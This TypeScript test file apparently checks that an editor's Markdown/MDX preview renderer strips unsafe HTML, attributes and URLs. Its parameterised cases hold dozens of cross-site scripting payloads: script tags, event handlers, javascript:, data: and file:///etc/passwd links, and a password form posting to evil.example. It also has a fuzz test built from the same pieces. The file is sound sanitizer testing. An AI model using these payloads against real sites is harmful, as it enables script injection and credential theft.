import { satteriHeadingIdsPlugin } from '@astrojs/markdown-satteri';
import { parseHTML } from 'linkedom';
import type { ComponentType } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { Fragment, jsx, jsxs } from 'react/jsx-runtime';
import { evaluate } from 'satteri';
import { describe, expect, it } from 'vitest';

import { blocks } from '../../../scripts/content-check/schema-problems.ts';
import { editorConfig } from '../../../scripts/editor/config.ts';
import { renderBody } from '../../../scripts/editor/render-body.tsx';
import { blockOf } from '../../../scripts/editor/text-edits.ts';
import { blocks as components } from '../../../src/components/mdx.tsx';
import { fc } from '../../support/properties.ts';

/** Everything that Markdown has for a text. */
const everything = `## Two

### Three

#### Four

##### Five

###### Six

Some *em*, **strong**, ~~del~~, \`code\`, and a [link](/help "Help") to\\
[another](https://studio.example) or https://www.example.com
with a note.[^1]

- a
- b

3. c
4. d

- [ ] open
- [x] done

> quote

---

\`\`\`js
let a;
\`\`\`

| A | B | C |
| :-- | :-: | --: |
| 1 | 2 | 3 |

![What it shows](./x.jpg)

[^1]: Note.
`;

const none = new Set<string>();
const { blocks: forms } = editorConfig();
const drawing = forms['Figure']?.attributes[0]?.options?.[0] ?? '';
/** Every block, with each of its attributes. */
const everyBlock = Object.keys(forms).map((name) => {
  const values = Object.fromEntries(
    Object.entries(forms).flatMap(([block, { attributes }]) =>
      attributes.map((each) => [`${block}.${each.name}`, each.options?.[0] ?? 'A word']),
    ),
  );
  return blockOf(name, forms, values);
});

const parse = (html: string): Element[] => [
  ...parseHTML(`<html><body>${html}</body></html>`).document.body.querySelectorAll('*'),
];
const show = (body: string) => parse(renderBody(body, String));
/** Each element with each of its attributes, such as `a href`. */
const partsOf = (shown: readonly Element[]) =>
  shown.flatMap((element) => [
    element.localName,
    ...element.getAttributeNames().map((name) => `${element.localName} ${name}`),
  ]);
const allowed = new Set(partsOf([everything, ...everyBlock].flatMap(show)));

/** What of a text may not be shown; nothing where it cannot be read at all. */
function faultsOf(body: string): string[] {
  let shown: Element[];
  try {
    shown = show(body);
  } catch {
    return [];
  }
  const addresses = shown.flatMap((element) =>
    element.getAttributeNames().flatMap((name) => {
      const value = element.getAttribute(name) ?? '';
      const { protocol, host } = URL.parse(value, 'https://site.example') ?? {};
      const isLink = /^(https?|mailto|tel):$/.test(protocol ?? '') && !value.startsWith('//');
      if (name === 'href') return isLink ? [] : [value];
      return name !== 'src' || host === 'site.example' ? [] : [value];
    }),
  );
  return [...partsOf(shown).filter((part) => !allowed.has(part)), ...addresses];
}

const { table, td, th } = components;
/** Astro writes styles as HTML has them. */
const inHtml =
  (cell: typeof td) =>
  ({
    style,
    ...props
  }: Omit<Parameters<typeof td>[0], 'style'> & { style?: { textAlign: string } }) =>
    cell({ ...props, ...(style && { style: `text-align: ${style.textAlign}` }) });

describe('a text in the preview', () => {
  it('has the elements and attributes that the build makes of Markdown, but no style', async () => {
    const { default: Text } = await evaluate(everything, {
      Fragment,
      jsx: jsx as (type: unknown, props: unknown) => unknown,
      jsxs: jsxs as (type: unknown, props: unknown) => unknown,
      hastPlugins: [satteriHeadingIdsPlugin()],
      data: {
        astro: { frontmatter: {}, headings: [], localImagePaths: none, remoteImagePaths: none },
      },
    });
    const built = renderToStaticMarkup(
      jsx(Text as ComponentType<{ components: object }>, {
        components: { table, td: inHtml(td), th: inHtml(th) },
      }),
    );
    const parts = partsOf(parse(built.replace(/<link[^>]*>/, '')));
    expect([...new Set(partsOf(show(everything)))].toSorted()).toEqual(
      [...new Set([...parts, 'img loading'])].toSorted(),
    );
    // The policy of pages forbids the attribute: one would end the build.
    expect(parts.filter((part) => part.endsWith(' style'))).toEqual([]);
    expect(built.match(/<th class="[^"]*">/g)).toEqual(
      ['left', 'center', 'right'].map((side) => `<th class="align-${side}">`),
    );
    const boxes = show(everything).filter(({ localName }) => localName === 'input');
    expect(boxes.map(({ outerHTML }) => outerHTML)).toEqual([
      '<input type="checkbox" disabled>',
      '<input type="checkbox" disabled checked>',
    ]);
  });

  it('has all blocks with their attributes', () => {
    const attributes = Object.values(blocks).flatMap(({ attributes: { shape } }) =>
      Object.keys(shape),
    );
    expect(attributes.length).toBeGreaterThan(10);
    const shown = Object.keys(components).filter((name) => /^[A-Z]/.test(name));
    expect(shown.toSorted()).toEqual(Object.keys(blocks).toSorted());
    for (const [name, { attributes: given }] of Object.entries(forms)) {
      const words = Object.fromEntries(
        given.map((each, index) => [`${name}.${each.name}`, each.options?.[0] ?? `Word ${index}`]),
      );
      const html = renderBody(blockOf(name, forms, words), String);
      // A recording is played by the page alone, and there is no player at no address.
      for (const each of given.filter(({ name: key }) => key !== 'src' && name !== 'Embed'))
        if (!each.options) expect(html).toContain(words[`${name}.${each.name}`]);
    }
  });

  it.each([
    '<script src="https://evil.example/x.js"></script>',
    '<script>alert(1)</script>',
    '<SCRIPT>alert(1)</SCRIPT>',
    '<img src="x" onerror="alert(1)" />',
    '<p onclick="alert(1)" onMouseOver="alert(1)" style="position:fixed">a</p>',
    '<div style="background:url(//evil.example)">a</div>',
    '<iframe src="https://evil.example" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;" />',
    '<object data="x" /><embed src="x" />',
    '<form action="https://evil.example"><input name="password" type="password" /><button formaction="javascript:alert(1)">a</button></form>',
    '<input type="image" src="//evil.example" onfocus="alert(1)" autofocus="" />',
    '<textarea /><select><option>a</option></select>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
    '<base href="https://evil.example" target="_top" />',
    '<link rel="stylesheet" href="https://evil.example/x.css" />',
    '<style>a</style>',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    '<svg><use href="data:image/svg+xml,x" /><foreignObject><iframe src="x" /></foreignObject></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)" /><set attributeName="onmouseover" to="alert(1)" /></svg>',
    '<math><mtext><mglyph><style>a</style></mglyph></mtext></math>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;">a</p></noscript>',
    '<video src="x" autoplay="" /><audio src="x" /><source src="x" />',
    '<details open="" ontoggle="alert(1)"><summary>a</summary></details>',
    '<dialog open="">a</dialog><slot name="a" /><portal src="x" /><frame src="x" />',
    '<a href="javascript:alert(1)" ping="https://evil.example" target="_top">a</a>',
    '<a xlink:href="javascript:alert(1)">a</a>',
    '<x:script>a</x:script><Foo.bar onclick="alert(1)">a</Foo.bar>',
    '<constructor>a</constructor><toString>b</toString><hasOwnProperty /><__proto__ />',
    '<custom-element onclick="alert(1)" is="x">a</custom-element>',
    '<Callout kind="tip" onclick="alert(1)" style="color:red" dangerouslySetInnerHTML="&lt;img src=x onerror=alert(1)&gt;">a</Callout>',
    '<Callout kind="tip" title="&lt;img src=x onerror=alert(1)&gt;">a</Callout>',
    '<Figure name="../../../../x" alt="a" />',
    `<Figure name="${drawing}" alt="&quot; onload=&quot;alert(1) $&amp; $'" caption="&lt;script&gt;a&lt;/script&gt;" />`,
    '<Unknown onclick="alert(1)">a</Unknown>',
    '<PromoBox title="a" text="b" />',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](java&Tab;script:alert(1))',
    '[a](<java\tscript:alert(1)>)',
    '[a](<\u0001javascript:alert(1)>)',
    '[a](vbscript:alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '[a](file:///etc/passwd)',
    '[a](blob:https://site.example/1)',
    '[a](//evil.example)',
    '[a][b]\n\n[b]: javascript:alert(1) "onclick"',
    '[a](/help "x&quot; onclick=&quot;alert(1)")',
    '![a](javascript:alert(1))',
    '![a](data:image/svg+xml;base64,PHN2Zz4=)',
    '![a](https://evil.example/pixel.gif)',
    '![a](//evil.example/pixel.gif)',
    '![a](x.jpg "onerror=alert(1)")',
    '![&quot; onerror=&quot;alert(1)](x.jpg)',
    '```js" onclick="alert(1)\nlet a;\n```',
    '## <img src="x" onerror="alert(1)" />',
    '| <script>a</script> |\n| --- |\n| <iframe src="x" /> |',
    '- <link rel="import" href="x" />',
    '> <meta charset="x" />',
    'A[^1]\n\n[^1]: <script>alert(1)</script> [a](javascript:alert(1))',
    '{alert(1)}',
    '<p {...{onclick: "alert(1)"}} title={alert(1)}>a</p>',
    'export const a = 1;',
    '# Heading one',
  ])('shows nothing else of %s', (body) => {
    expect(faultsOf(body)).toEqual([]);
    expect(faultsOf(`Before.\n\n<Example title="In a block">\n\n${body}\n\n</Example>\n`)).toEqual(
      [],
    );
  });

  it('leads wherever the content check lets a link lead', () => {
    for (const address of ['/help', '#two', 'https://a.example', 'mailto:a@b.example', 'sms:+1'])
      expect(renderBody(`[Words](${address})`, String)).toContain(` href="${address}"`);
  });

  it('shows of HTML its words alone, even where Markdown has the same element', () => {
    const words = 'Some <b onclick="x()">words <em>here</em></b><input checked="" />.';
    expect(renderBody(words, String)).toBe('<p>Some words here.</p>');
  });

  it('has no other elements, attributes, or addresses, whatever is typed', () => {
    const word = fc.oneof(
      fc.constantFrom(
        'script',
        'iframe',
        'svg',
        'a',
        'img',
        'p',
        'form',
        'input',
        'style',
        'base',
        'Callout',
        'Figure',
      ),
      fc.stringMatching(/^[a-zA-Z][\w-]{0,8}$/),
    );
    const name = fc.oneof(
      fc.constantFrom(
        'href',
        'src',
        'srcdoc',
        'style',
        'onload',
        'onError',
        'class',
        'className',
        'id',
        'ref',
        'key',
        'kind',
        'name',
        'alt',
      ),
      fc.stringMatching(/^[a-zA-Z][\w:-]{0,8}$/),
    );
    const value = fc.oneof(
      fc.constantFrom('javascript:alert(1)', 'data:text/html,x', '//evil.example', 'tip', '/help'),
      fc.stringMatching(/^[^"{}]{0,12}$/),
    );
    const tag = fc.record({
      word,
      attributes: fc.array(fc.tuple(name, value), { maxLength: 4 }),
      inside: value,
    });
    fc.assert(
      fc.property(tag, value, ({ word: tagName, attributes, inside }, address) => {
        const given = attributes.map(([key, text]) => ` ${key}="${text}"`).join('');
        const body = `<${tagName}${given}>${inside}</${tagName}>\n\n[a](<${address}>) ![b](<${address}>)`;
        expect(faultsOf(body)).toEqual([]);
      }),
    );
  });
});
